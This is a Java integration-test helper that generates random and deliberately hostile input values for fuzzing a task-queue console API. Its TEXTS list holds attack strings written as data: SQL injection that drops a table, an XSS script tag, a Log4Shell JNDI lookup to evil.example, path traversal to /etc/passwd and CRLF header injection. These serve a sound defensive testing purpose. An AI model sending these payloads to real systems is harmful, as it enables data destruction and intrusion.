package org.tasktube.itest.console;

import jakarta.json.Json;
import jakarta.json.JsonArray;
import jakarta.json.JsonObject;
import java.util.List;
import java.util.Random;

/** Values by chance: such that fit a schema, and such that attack. No time is short: nothing changes by itself. */
record Values(Random random) {

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "x",
            "gen",
            "\u0000",
            "a\u0000b",
            "\u202Egnp.exe",
            "\u200b",
            "\r\nX: y",
            "'; DROP TABLE tasktube_task; --",
            "\" OR 1=1",
            "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}",
            "#{1+1}",
            "%s%n",
            "../../etc/passwd",
            "..",
            "/",
            "\\",
            "é",
            "\ud83d\ude00",
            "\ud800",
            "e\u0301",
            "-1",
            "0",
            "1e400",
            "NaN",
            "null",
            "true",
            "9223372036854775807",
            "9223372036854775808",
            "0x10",
            "1,2",
            "*",
            "\"",
            "\\\"",
            "PT-1S",
            "P1Y",
            "PT1H",
            "x".repeat(255),
            "x".repeat(256),
            "x".repeat(5_000));
    private static final List<String> JSON = List.of(
            "null",
            "true",
            "-1",
            "0",
            "1.5",
            "1e400",
            "-0",
            "9007199254740993",
            "99999999999999999999",
            "[]",
            "{}",
            "[[]]",
            "{\"a\":{\"b\":[1,null]}}",
            "\"\"",
            "\"\\u0000\"",
            "\"\\ud800\"",
            "[1,2,3]",
            "0.1e-400");
    private static final List<String> CONDITIONS = List.of(
            "tube:gen",
            "tube:sub",
            "-tube:gen",
            "state:ready",
            "state:buried,delayed",
            "age>10m",
            "age<1d",
            "attempts>=3",
            "key:*",
            "-key:*",
            "utube:a*",
            "id:1",
            "pri<10",
            "error:*x*",
            "data.a.b:1",
            "data:*x*",
            "type:text/plain",
            "node:*",
            "session:2f*",
            "due<1h",
            "held>5m",
            "taken>1",
            "buried>0",
            "colour:red",
            "state:nosuch",
            "age>x",
            "id:x",
            "tube:",
            "\"",
            "a:\"b",
            "::",
            "data.:1",
            "data.a..b:1",
            "error:\"a b\"",
            "-",
            "x");

    String text() {
        return random.nextInt(3) == 0 ? noise() : pick(TEXTS);
    }

    private String noise() {
        return random.ints(random.nextInt(30), 0, 0x2fff)
                .filter(Character::isDefined)
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
    }

    String filter() {
        StringBuilder filter = new StringBuilder();
        for (int i = random.nextInt(4); i >= 0; i--) {
            filter.append(pick(CONDITIONS)).append(' ');
        }
        return random.nextInt(10) == 0 ? filter + text() : filter.toString();
    }

    /** Returns any JSON. */
    String json() {
        return switch (random.nextInt(10)) {
            case 0 -> "[".repeat(900) + "]".repeat(900);
            case 1, 2, 3 -> Json.createValue(text()).toString();
            default -> pick(JSON);
        };
    }

    /** Returns a member of a body that fits. */
    String member(String name, JsonObject schema) {
        return switch (name) {
            case "name" -> "\"made" + random.nextInt(5) + "\"";
            case "type" -> "\"" + pick(List.of("fifo", "fifottl", "limfifottl", "utube", "utubettl")) + "\"";
            case "confirm" -> "\"" + pick(Generator.TUBES) + "\"";
            case "ttl", "ttr", "delay", "increment" ->
                "\"" + pick(List.of("PT1H", "P10D", "1d", "2h", "PT3600.001S")) + "\"";
            case "contentType" -> "\"" + pick(List.of("text/plain", "application/json", "image/png")) + "\"";
            case "key", "utube", "reason" -> "\"" + pick(List.of("a", "b", "a b", "é")) + "\"";
            case "data" -> random.nextBoolean() ? "\"x\"" : json();
            case "temporary" -> "false";
            default -> fitting(schema);
        };
    }

    /** Returns a value that fits a schema, as JSON. */
    String fitting(JsonObject schema) {
        if (schema.get("enum") instanceof JsonArray allowed) {
            return allowed.get(random.nextInt(allowed.size())).toString();
        }
        int least = schema.getInt("minimum", 0);
        int most = schema.getInt("maximum", 1_000);
        return switch (schema.getString("type", "string")) {
            case "integer" -> Integer.toString(least + random.nextInt(most - least + 1));
            case "boolean" -> Boolean.toString(random.nextBoolean());
            case "object" -> random.nextBoolean() ? "{}" : "{\"trace\":\"00-ab\"}";
            case "array" -> "[]";
            default -> schema.getString("format", "").equals("byte") ? "\"eA==\"" : "\"text\"";
        };
    }

    private String pick(List<String> from) {
        return from.get(random.nextInt(from.size()));
    }
}
